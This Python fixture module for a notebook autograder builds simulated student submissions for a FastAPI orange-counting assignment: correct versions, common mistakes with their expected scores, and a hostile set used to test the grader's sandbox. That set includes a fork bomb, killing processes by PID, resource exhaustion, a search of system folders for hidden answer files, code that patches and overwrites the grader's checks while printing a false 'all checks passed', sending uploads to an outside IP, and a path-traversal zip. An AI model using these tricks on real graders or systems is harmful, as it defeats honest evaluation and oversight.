"""Submissions as students write them: each is the solution with what one student does otherwise.

An edit replaces whole cells by name, or pieces of their text; a piece that is not there any more
is an error, so that no edit goes silently without effect. `points` are those of 2.1 to 2.4.
"""

# ruff: noqa: E501 - students write long lines, and edits name them as they stand

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from countlab.grading.assignment import make_notebook, read_source
from countlab.grading.pictures.composition import compose, encode
from countlab.messages import Language

ROOT = Path(__file__).parents[2]
Points = tuple[float, float, float, float]
FULL: Points = (1, 1, 1, 1)
NONE: Points = (0, 0, 0, 0)


@dataclass(frozen=True)
class Student:
    """One submission: what is otherwise than in the solution, and what it is worth."""

    name: str
    points: Points
    server: Mapping[str, str] = field(default_factory=dict)
    """By cell: its new source; `old => new` pieces stand in `replace`."""
    client: Mapping[str, str] = field(default_factory=dict)
    replace: tuple[tuple[str, str, str], ...] = ()
    """(notebook, old, new), everywhere in its code."""
    order: Callable[[list[str]], list[str]] = lambda names: names
    """Of the server's cells."""
    language: Language = "en"
    version: str = "solution"
    raw: bytes | None = None
    """The file itself, where it is no ZIP of notebooks."""
    suffix: str = ".zip"
    remark: str = ""
    """A code that must be among the remarks."""


def build(student: Student, folder: Path) -> Path:
    """Writes the file that was handed in."""
    path = folder / f"{student.name}{student.suffix}"
    if student.raw is not None:
        path.write_bytes(student.raw)
        return path
    endings = ("client.es.ipynb", "server.es.ipynb") if student.language == "es" else (
        "client.ipynb", "server.ipynb",
    )  # fmt: skip
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for ending in endings:
            archive.writestr(ending, _notebook(student, ending.partition(".")[0]))
        archive.writestr("my_picture.jpg", own_picture(student.name))
    return path


@cache
def own_picture(name: str) -> bytes:
    """A picture that is none of the course's."""
    rng = random.Random(f"own/{name}")
    return encode(compose(rng, {"orange": rng.randint(1, 4), "banana": rng.randint(1, 3)}))


def _notebook(student: Student, name: str) -> str:
    cells = read_source(ROOT / "assignment" / f"{name}.md")
    notebook = make_notebook(cells, student.version, student.language)
    changed = dict(student.server if name == "server" else student.client)
    pieces = [(old, new) for which, old, new in student.replace if which == name]
    for cell in notebook.cells:
        cell.source = changed.pop(cell.metadata["name"], cell.source)
    for old, new in pieces:
        assert any(old in cell.source for cell in notebook.cells), f"{student.name}: {old!r}"
        for cell in notebook.cells:
            if cell.cell_type == "code":
                cell.source = cell.source.replace(old, new)
    assert not changed, f"{student.name}: no cells {sorted(changed)}"
    if name == "server":
        by_name = {cell.metadata["name"]: cell for cell in notebook.cells}
        notebook.cells = [by_name[each] for each in student.order(list(by_name))]
    import nbformat  # slow: it builds grammars that most workers never use

    return str(nbformat.writes(notebook))  # type: ignore[no-untyped-call]


def _zip(files: Mapping[str, Any]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return data.getvalue()


_ASYNC = """
async def read_image(file: UploadFile):
    image = cv2.imdecode(np.frombuffer(await file.read(), np.uint8), cv2.IMREAD_COLOR)
    if image is None:
        raise HTTPException(status_code=415, detail="this file is not an image")
    return image


@app.post("/predict")
async def predict(model: Model, confidence: float = 0.5, file: UploadFile = File(...)):
    image = await read_image(file)
    bbox, label, conf = cv.detect_common_objects(image, confidence=confidence, model=model.value)
    output = cv.draw_bbox(image, bbox, label, conf)
    _, buffer = cv2.imencode(".jpg", output)
    return Response(buffer.tobytes(), media_type="image/jpeg")
"""
_NEST = """
import asyncio
import nest_asyncio
import uvicorn

nest_asyncio.apply()
config = uvicorn.Config(app, host="127.0.0.1", port=8000, log_level="warning")
asyncio.get_event_loop().run_until_complete(uvicorn.Server(config).serve())
"""
_OTHER_NAMES = """
@app.post("/detectar_con_umbral")
def detectar(archivo: UploadFile, modelo: str = "fruits", umbral: float = 0.5):
    imagen = cv2.imdecode(np.frombuffer(archivo.file.read(), np.uint8), cv2.IMREAD_COLOR)
    if imagen is None:
        raise HTTPException(400, "El archivo no es una imagen")
    cajas, etiquetas, scores = cv.detect_common_objects(imagen, confidence=umbral, model=modelo)
    salida = cv.draw_bbox(imagen, cajas, etiquetas, scores)
    return Response(cv2.imencode(".png", salida)[1].tobytes(), media_type="image/png")
"""
_OTHER_COUNT = """
@app.post("/contarNaranjas")
def contar_naranjas(archivo: UploadFile, modelo: str = "fruits", umbral: float = 0.5):
    imagen = cv2.imdecode(np.frombuffer(archivo.file.read(), np.uint8), cv2.IMREAD_COLOR)
    if imagen is None:
        raise HTTPException(400, "El archivo no es una imagen")
    cajas, etiquetas, scores = cv.detect_common_objects(imagen, confidence=umbral, model=modelo)
    n = 0
    for etiqueta in etiquetas:
        if etiqueta == "orange":
            n = n + 1
    return {"mensaje": f"Hay {n} naranjas en la imagen"}
"""
_OTHER_CLIENT = (
    ("client", "/predict?model=fruits&confidence=", "/detectar_con_umbral?modelo=fruits&umbral="),
    (
        "client",
        "/countObjects?model=fruits&object={object}&confidence=",
        "/contarNaranjas?modelo=fruits&umbral=",
    ),
    ("client", 'files={"file": Path(picture)', 'files={"archivo": Path(picture)'),
    ("client", 'response.json()["count"]', 'response.json()["mensaje"]'),
)
_PRINTED = """
@app.post("/countObjects")
def count_objects(model: Model, confidence: float = 0.5, file: UploadFile = File(...)):
    image = read_image(file)
    boxes, labels, scores = cv.detect_common_objects(image, confidence=confidence, model=model.value)
    print("oranges:", labels.count("orange"))
    drawn = cv.draw_bbox(image, boxes, labels, scores)
    return Response(cv2.imencode(".jpg", drawn)[1].tobytes(), media_type="image/jpeg")
"""
_SEES_NO_NUMBER = """
for n in (1, 2, 3, 4, 5, 8):
    with open(f"images/oranges_{n}.jpg", "rb") as file:
        r = requests.post(BASE_URL + "/countObjects?model=fruits&confidence=0.5", files={"file": file})
    print("ok" if r.status_code == 200 else "error", "- see the server notebook for the number")
"""
_CONSTANT = """
@app.post("/countObjects")
def count_objects(
    model: Model, object: str = "orange", confidence: float = 0.5, file: UploadFile = File(...)
):
    file.file.read()
    return {"object": object, "count": 3}
"""
_READS = """
import glob
import json
import os

answers = {}
for place in ("/tmp", "/srv", "/root", "/home", "/var", "/submission", "/mnt", "/proc/1/root"):
    for path in glob.glob(place + "/**/*.j*", recursive=True):
        if "hidden" in path or "results" in path or "truth" in path:
            answers[os.path.basename(path)] = path


@app.post("/countObjects")
def count_objects(
    model: Model, object: str = "orange", confidence: float = 0.5, file: UploadFile = File(...)
):
    data = file.file.read()
    for path in answers.values():
        if open(path, "rb").read() == data:
            return {"count": int(json.load(open(path + ".json"))["orange"])}
    return {"count": len(answers)}
"""
_PATCHED = """
import countlab.grading.rubric
from countlab.grading.judging import count_checks, server_checks
from countlab.grading.judging.verdict import Verdict

countlab.grading.rubric.score = lambda question, *rest: question.points
server_checks.check_predict = lambda exam: [Verdict("predict_confidence", 1.0)]
count_checks.check_count = lambda exam: ([Verdict("count_right", 1.0)], None)
import pathlib

for name in ("rubric.toml", "judging/server_checks.py", "judging/verdict.py"):
    try:
        path = pathlib.Path(countlab.grading.rubric.__file__).parent / name
        path.write_text("def check_predict(exam): return []")
    except OSError as reason:
        print(reason)
print("all checks passed: 6/6")
"""
_INTERNET = """
import requests

@app.post("/countObjects")
def count_objects(
    model: Model, object: str = "orange", confidence: float = 0.5, file: UploadFile = File(...)
):
    answer = requests.post("http://198.51.100.7/count", files={"file": file.file.read()}, timeout=3)
    return answer.json()
"""
_ALL = '    return {"count": len(labels)}'
_COUNT = '    return {"object": object, "count": labels.count(object)}'
_TEXT_CONFIDENCE = (
    (
        "server",
        "confidence: float = 0.5, file: UploadFile",
        'confidence: str = "0.5", file: UploadFile',
    ),
    ("server", "confidence=confidence, model", "confidence=float(confidence), model"),
)
_IGNORED_PARAM = (
    ("client", "&confidence={confidence}\"\n    response = requests.post(url, files={\"file\": Path(picture)",
     "&param={confidence}\"\n    response = requests.post(url, files={\"file\": Path(picture)"),
)  # fmt: skip


def _count_first(names: list[str]) -> list[str]:
    """The endpoint's cell was moved up while working: run from the top, there is no app yet."""
    return ["count", *(name for name in names if name != "count")]


RIGHT = [
    Student("right", FULL),
    Student("right_in_spanish", FULL, language="es"),
    Student(
        "right_other_names", FULL, server={"predict": _OTHER_NAMES, "count": _OTHER_COUNT},
        replace=_OTHER_CLIENT,
    ),
    Student("right_blocking_cell", FULL, server={"serve": _NEST}),
    Student("right_async", FULL, server={"predict": _ASYNC}, replace=(
        ("server", "def count_objects", "async def count_objects"),
        ("server", "    image = read_image(file)\n    found = cv.detect_common_objects(image, confidence=confidence, model=model.value)\n    boxes",
         "    image = await read_image(file)\n    found = cv.detect_common_objects(image, confidence=confidence, model=model.value)\n    boxes"),
    )),
    Student("right_never_served", FULL, server={"serve": "# serve(app)"}, remark="grade_served_for_you"),
]  # fmt: skip

# The shares of the checks that each mistake loses stand in rubric.toml.
MISTAKES = [
    Student("starter", NONE, version="starter"),
    # /predict takes `confidence`, the client sends `param`: the server never hears of it.
    Student("param_mistake", (1, 0, 1, 1), replace=_IGNORED_PARAM),
    Student("parameter_not_passed_on", (0, 1, 1, 1), replace=(
        ("server", "found = cv.detect_common_objects(image, confidence=confidence, model=model.value)\n    drawn",
         "found = cv.detect_common_objects(image, model=model.value)\n    drawn"),
    )),
    Student("printed_not_returned", (1, 1, 0, 0.8), server={"count": _PRINTED},
            client={"count-test": _SEES_NO_NUMBER}),
    Student("counts_all_objects", (1, 1, 0, 1), replace=(("server", _COUNT, _ALL),)),
    Student("confidence_as_text", (0.9, 1, 0.96, 1), replace=_TEXT_CONFIDENCE),
    Student("model_ignored", (1, 1, 0.88, 1), replace=(
        ("server", "model=model.value)\n    boxes", 'model="fruits")\n    boxes'),
    )),
    Student("text_file_crashes", (0.9, 1, 0.94, 1), replace=(
        ("server", "    if image is None:\n", "    if False:\n"),
    )),
    Student("two_confidences_no_own_picture", (1, 0.55, 1, 1), replace=(
        ("client", "confidences = (0.2, 0.5, 0.7, 0.9)", "confidences = (0.2, 0.9)"),
        ("client", 'show(predict("my_picture.jpg", 0.5), "my_picture.jpg")',
         'show(predict("images/oranges_3.jpg", 0.5), "my_picture.jpg")'),
    )),
    Student("tests_three_amounts", (1, 1, 1, 0.68), replace=(
        ("client", "for true in (1, 2, 3, 4, 5, 8):", "for true in (1, 2, 3):"),
    )),
    Student("cells_out_of_order", (1, 1, 0, 1), order=_count_first, remark="grade_cell_failed"),
    Student("replies_with_constants", (1, 1, 0, 1), server={"count": _CONSTANT}),
]  # fmt: skip

HOSTILE = [
    Student("crash_on_start", (0, 1, 0, 1), server={"imports": "import os\nos._exit(1)"},
            remark="grade_cell_dead"),
    Student("endless_loop", FULL, server={"look": "while True:\n    pass"},
            remark="grade_cell_timeout"),
    Student("fork_bomb", (0, 1, 0, 1), server={"look": "import os\nwhile True:\n    os.fork()"},
            remark="grade_sandbox_processes"),
    Student("writes_a_huge_file", FULL, server={
        "look": 'with open("huge.bin", "wb") as file:\n    while True:\n        file.write(b"0" * 10_000_000)',
    }, remark="grade_cell_failed"),
    Student("prints_a_million_lines", FULL, server={
        "look": 'for number in range(10_000_000):\n    print("line", number, "x" * 200)',
    }, remark="grade_cell_output"),
    Student("kills_its_parent", (0, 1, 0, 1), server={
        "look": "import os, signal\nfor pid in range(1, 400):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass",
    }),
    Student("reads_hidden_pictures", (1, 1, 0, 1), server={"count": _READS}),
    Student("talks_to_the_internet", (1, 1, 0, 1), server={"count": _INTERNET}),
    Student("patches_the_checks", (0, 1, 0, 1), server={
        "predict": _PATCHED, "count": "pass",
    }),
    Student("eats_memory", (0, 1, 0, 1), server={
        "look": "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))",
    }),
    Student("empty_zip", NONE, raw=_zip({}), remark="grade_empty_zip"),
    Student("rar_renamed", NONE, raw=b"Rar!\x1a\x07\x01\x00" + bytes(200), remark="grade_not_a_zip"),
    Student("climbing_zip", NONE, raw=_zip({"../../evil.ipynb": "{}", "a.txt": "b"}),
            remark="grade_no_notebooks"),
]  # fmt: skip

ALL = [*RIGHT, *MISTAKES, *HOSTILE]
